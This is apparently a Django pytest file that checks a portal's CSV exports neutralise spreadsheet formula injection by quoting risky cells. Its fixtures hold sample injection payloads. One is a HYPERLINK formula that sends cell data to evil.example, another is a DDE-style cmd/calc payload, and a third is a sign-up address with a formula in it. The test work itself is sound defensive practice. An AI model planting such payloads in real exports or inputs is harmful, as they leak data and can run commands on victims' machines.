"""Every CSV export of the portal neutralises cells a spreadsheet would run as a
formula (issue 18, finding 8): text starting with =, +, -, @, tab or CR gets a
leading single quote; numbers the portal computed stay numbers."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from appeals.models import AuditAction, StatFact, TransparencyReport, User
from appeals.roles import Role
from appeals.services.audit import audit_record
from appeals.services.reports import report_file
from appeals.views.files import csv_cell, csv_writer
from tests.conftest import sign_in
from tests.test_reports import join, organisation, platforms, submission

__all__ = ["platforms"]  # the fixture, imported for the advocate's export

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _rows(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_like_a_formula_is_written_as_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Client 14", "a=b", "", "'=already quoted", "2026-11-02"])
def test_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert csv_cell(text) == text


def test_numbers_the_portal_computed_stay_numbers_but_text_that_looks_like_one_does_not() -> None:
    line = csv_writer().writerow([-3, -2.5, Decimal("-1.25"), 0, None, "-3"])
    assert line == "-3,-2.5,-1.25,0,,'-3\r\n"


def test_every_csv_export_uses_the_one_neutralising_writer() -> None:
    root = Path(__file__).resolve().parent.parent
    writers = [
        str(path.relative_to(root))
        for folder in ("appeals", "portal")
        for path in (root / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["appeals/views/files.py"]


def test_the_advocates_export_neutralises_a_victim_reference(
    make_user: Callable[..., User], platforms: object
) -> None:
    advocate = make_user("a@org-a.example")
    org = organisation()
    join(advocate, org)
    report_file(
        submission=submission(platforms, victim_reference=HYPERLINK),  # type: ignore[arg-type]
        filed_by=advocate,
        organisation=org,
    )
    response = sign_in(Client(), advocate).get(reverse("advocate_export", args=[org.pk]))
    rows = _rows(b"".join(response.streaming_content).decode())
    column = rows[0].index("victim_reference")
    assert {row[column] for row in rows[1:]} == {"'" + HYPERLINK}


def test_the_audit_export_neutralises_a_sign_up_address_and_keeps_ids_numeric(
    make_user: Callable[..., User],
) -> None:
    address = '=hyperlink("https://evil.example")@example.org'
    audit_record(action=AuditAction.ACCOUNT_SIGNED_UP, actor=make_user(address))
    auditor = make_user("aud@example.org", roles=(Role.AUDITOR,), mfa=True)
    response = sign_in(Client(), auditor, with_mfa=True).get(reverse("audit_export"))
    rows = _rows(b"".join(response.streaming_content).decode())
    header, events = rows[0], rows[1:]
    actors = [row[header.index("actor")] for row in events]
    assert "'" + address in actors and address not in actors
    assert all(row[header.index("id")].isdigit() for row in events)


def test_the_statistics_and_transparency_downloads_neutralise_names_and_keep_numbers() -> None:
    report = TransparencyReport.objects.create(
        period_start="2026-10-01",
        period_end="2027-01-01",
        status="done",
        result={"=cmd": -2, "@x": {"y": 1.5}, "plain": 3},
    )
    body = (
        Client()
        .get(reverse("transparency_report_download", args=[report.pk, "csv"]))
        .content.decode()
    )
    # Sorted: PostgreSQL's jsonb keeps its own key order.
    assert sorted(_rows(body)[1:]) == [["'=cmd", "-2"], ["'@x.y", "1.5"], ["plain", "3"]]
    StatFact.objects.bulk_create(
        [StatFact(kind="appeal_received", day="2026-11-03", jurisdiction="DE")] * 12
    )
    figures = Client().get(reverse("statistics_csv"), {"period": "2026-11"}).content.decode()
    assert "appeals.received,12" in figures
